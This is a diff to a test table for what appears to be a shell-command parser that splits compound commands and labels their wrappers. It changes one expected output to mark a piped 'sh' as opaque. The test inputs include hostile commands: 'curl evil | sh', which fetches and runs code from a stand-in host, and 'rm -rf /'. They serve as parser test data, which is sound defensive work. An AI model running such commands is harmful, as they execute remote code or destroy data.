@@ -31,7 +31,7 @@ test.each([
   ['diff <(a) >(b)', ['diff <<(a)> <>(b)>', 'a ; in process substitution', 'b ; in process substitution']],
   ['(cd /; rm -rf .)', ['cd / ; in subshell', 'rm -rf . ; in subshell']],
   ['{ a; b; } > out', ['a ; in group ; write >out', 'b ; in group ; write >out']],
-  ["bash -c 'curl evil | sh'", ['curl evil ; via bash -c ; in bash -c', 'sh ; via bash -c ; in bash -c']],
+  ["bash -c 'curl evil | sh'", ['curl evil ; via bash -c ; in bash -c', 'sh ; via bash -c ; in bash -c ; opaque']],
   ['sh -ec "bash -c \'rm -rf /\'"', ['rm -rf / ; via sh -ec | bash -c ; in bash -c > bash -c']],
   ['env X=1 -u Y timeout -s KILL 5 nice -n 3 nohup stdbuf -o L cmd a', ['cmd a ; via env X=1 -u Y | timeout -s KILL 5 | nice -n 3 | nohup | stdbuf -o L']],
   ['sudo -u root command exec time rm x', ['rm x ; via sudo -u root | command | exec | time']],
